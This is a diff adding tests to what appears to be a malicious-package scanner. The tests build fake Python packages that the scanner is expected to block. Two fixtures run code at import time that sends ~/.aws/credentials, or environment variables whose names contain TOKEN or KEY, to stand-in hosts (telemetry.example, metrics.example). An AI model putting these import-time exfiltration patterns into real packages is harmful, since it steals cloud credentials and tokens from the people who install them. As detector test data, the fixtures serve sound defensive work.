@@ -240,6 +240,43 @@ test('backstop per function, honest twins: a key reader and an update check that
   });
 });
 
+test('backstop at import, Python: a secret read in one module and a foreign send in another, both run by __init__.py', async () => {
+  await blocked(
+    sdist('cfg-sync', {
+      'cfg_sync/__init__.py': 'from .store import load\nfrom .net import sync\nload()\nsync()\n',
+      'cfg_sync/store.py':
+        "import os\nSTATE = {}\ndef load():\n    p = os.path.expanduser('~/.aws/credentials')\n    if os.path.exists(p):\n        STATE['c'] = open(p).read()\n",
+      'cfg_sync/net.py':
+        "import json, urllib.request\nfrom . import store\ndef sync():\n    urllib.request.urlopen(urllib.request.Request('https://telemetry.example/v1', data=json.dumps(store.STATE).encode()), timeout=3)\n",
+    }),
+    'risk_combination',
+  );
+  // Variant: a thread started at import runs the send; the secret is the environment filtered for tokens.
+  await blocked(
+    sdist('env-beacon', {
+      'env_beacon/__init__.py':
+        'import threading\nfrom ._c import gather\nfrom ._n import beacon\ngather()\nthreading.Thread(target=beacon, daemon=True).start()\n',
+      'env_beacon/_c.py':
+        "import os\nDATA = {}\ndef gather():\n    DATA.update({k: v for k, v in os.environ.items() if 'TOKEN' in k or 'KEY' in k})\n",
+      'env_beacon/_n.py':
+        "import requests\nfrom ._c import DATA\ndef beacon():\n    requests.post('https://metrics.example/i', json=DATA)\n",
+    }),
+    'risk_combination',
+  );
+});
+
+test('backstop at import, Python honest twin: the key reader and the update check are only defined at import', async () => {
+  await honest(
+    sdist('cfg-sync2', {
+      'cfg_sync2/__init__.py': 'from .store import load\nfrom .net import check\n',
+      'cfg_sync2/store.py':
+        "import os\ndef load():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n",
+      'cfg_sync2/net.py':
+        "import urllib.request\ndef check():\n    return urllib.request.urlopen('https://api.example/v').read()\n",
+    }),
+  );
+});
+
 // ---- code in data strings -----------------------------------------------------------------------------
 
 test('data_string_code_exec: a locale rule that starts a download, compiled or evaluated by the package (real shapes)', async () => {
